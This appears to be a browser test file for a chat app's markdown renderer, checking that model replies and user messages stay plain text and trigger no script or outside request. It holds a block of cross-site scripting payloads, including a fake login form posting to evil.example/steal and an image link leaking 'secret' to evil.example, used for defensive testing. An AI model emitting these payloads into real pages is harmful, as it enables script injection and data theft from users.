import { expect, test } from 'vitest';
import { say, soon, useSite } from './site.ts';

const site = useSite({ maxChars: 10_000 });
const answers = '.answer:not(.streaming)';

const ATTACKS = `
<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

<svg onload="window.hacked = 3"><animate onbegin="window.hacked = 4" attributeName="x"></svg>

<iframe src="javascript:parent.hacked = 5"></iframe> <style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

[a](javascript:window.hacked=6) [b](JaVaScRiPt:window.hacked=7) [c](java&#x73;cript:window.hacked=8)
[d](data:text/html,<script>parent.hacked=9</script>) [e](vbscript:x) [f](/api/session) [g](//evil.example)

[h]: javascript:window.hacked=10
[h] <javascript:window.hacked=11> ![i](x" onerror="window.hacked=12)

\`\`\`html"><img src=x onerror=window.hacked=13>
<img src=x onerror="window.hacked = 14">
\`\`\`

| <img src=x onerror=window.hacked=15> |
|---|
| <a href="javascript:window.hacked=16">cell</a> |

[fine](https://example.com/?a=1&b=2) ![picture](https://evil.example/pixel.png?words=secret)
`;

test('nothing that a model writes is more than text', async () => {
  const page = await site.visit();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  site.model.says((_text) => ATTACKS.split(/(?<=\n)/));
  await say(page, 'Attack me');
  await page.locator(answers).waitFor();

  const found = await page.locator('.answer .markdown').evaluate((root) => ({
    elements: [...new Set([...root.querySelectorAll('*')].map((element) => element.localName))],
    handlers: [...root.querySelectorAll('*')]
      .flatMap((element) => element.getAttributeNames())
      .filter((name) => /^on|style|srcdoc/.test(name)),
    links: [...root.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.target, link.rel]),
  }));
  const harmless = 'p a br code pre figure figcaption span section table thead tbody tr th td button svg path';
  expect(found.elements.filter((name) => !harmless.split(' ').includes(name))).toEqual([]);
  expect(found.handlers).toEqual([]);
  expect(found.links).toEqual([
    ['https://example.com/?a=1&b=2', '_blank', 'noopener noreferrer nofollow'],
    ['https://evil.example/pixel.png?words=secret', '_blank', 'noopener noreferrer nofollow'],
  ]);
  // What cannot be an element is shown as it was written.
  await soon(() => page.locator('.answer .markdown').textContent()).toContain('<script>window.hacked = 1</script>');
  for (const link of await page.locator('.answer span').all()) await link.click({ trial: true });
  await soon(() => page.evaluate("'hacked' in window")).toBe(false);
  expect(asked.filter((url) => !url.startsWith(site.url))).toEqual([]);
});

test('what a person writes, and what is made of it, is text too', async () => {
  const page = await site.visit();
  const evil = '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>';
  site.model.says('ok');
  await say(page, evil);
  await page.locator(answers).waitFor();
  await soon(() => page.locator('.bubble').textContent()).toBe(evil);
  // The title in the list and of the page, the question before deleting, an unknown command.
  await page.getByRole('navigation').getByRole('link', { name: '<img' }).waitFor();
  await page.getByRole('button', { name: /^Delete/ }).click();
  await page.getByRole('dialog').getByText('<img').waitFor();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await say(page, `/model ${evil}`);
  await page.getByRole('complementary').waitFor();
  await page.goto(`${site.url}/#c=${encodeURIComponent(evil)}`);
  await page.reload();
  await page.getByText('What can I help with?').waitFor();
  await soon(() => page.locator('#app img, #app script').count()).toBe(0);
  await soon(() => page.evaluate("'hacked' in window")).toBe(false);
});

test('the page still works where the browser forbids HTML from text altogether (Trusted Types)', async () => {
  const page = await site.visit();
  site.model.says('**bold**\n\n```ts\nconst a = 1;\n```');
  await say(page, 'Hello');
  await page.locator('.hl-keyword').waitFor();
  const forbidden = "try { document.body.innerHTML = '<p>x</p>'; false } catch { true }";
  await soon(() => page.evaluate(forbidden)).toBe(true);
  site.expectComplaint(/TrustedHTML/);
});
